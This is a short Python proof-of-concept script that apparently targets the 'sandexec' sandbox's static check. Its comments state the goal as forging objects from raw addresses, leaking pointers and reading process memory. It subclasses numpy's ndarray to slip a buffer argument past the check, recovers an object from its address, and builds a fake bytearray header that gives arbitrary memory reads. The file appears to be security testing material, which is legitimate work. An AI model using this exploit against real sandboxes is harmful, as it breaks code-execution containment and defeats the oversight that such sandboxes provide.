# source: sandexec README, "The static check", ("np.ndarray((1,), object, b)[0] is any address taken as an object"; "an array subclass's __new__ with a buffer" is promised refused); numpy ndarray.__new__(shape, dtype, buffer) accepts an object dtype over a bytearray; the default repr of an object shows its address
# family: class machinery: a plain subclass of np.ndarray inherits ndarray.__new__, called with a buffer the check does not read as one
# goal: forges an object from an address, leaks object-array pointers, reads process memory through a fake bytearray
import numpy as np


class K(np.ndarray):
    pass


BUF = bytearray

# 1. an object address (from its default repr) read back as the object
class Target:
    pass


t = Target()
t.secret = "forged reference works"
addr = int(repr(t).split(" at ")[1][:-1], 16)
forged = K((1,), object, BUF(addr.to_bytes(8, "little")))[0]
print("forged is t:", forged is t, forged.secret)

# 2. pointers of an object array read as integers, 3. a fake bytearray over any address
ba_type = int(K((1,), np.uint64, np.array([bytearray], dtype=object))[0])
n = 48
fake = bytearray()
for v in (1 << 40, ba_type, n, n + 1, addr, addr, 0):
    fake += v.to_bytes(8, "little")
fake = bytes(fake)
fake_addr = int(K((1,), np.uint64, np.array([fake], dtype=object))[0]) + 32
fb = K((1,), object, BUF(fake_addr.to_bytes(8, "little")))[0]
print(type(fb), "memory at", hex(addr), ":", bytes(fb[:48]).hex())

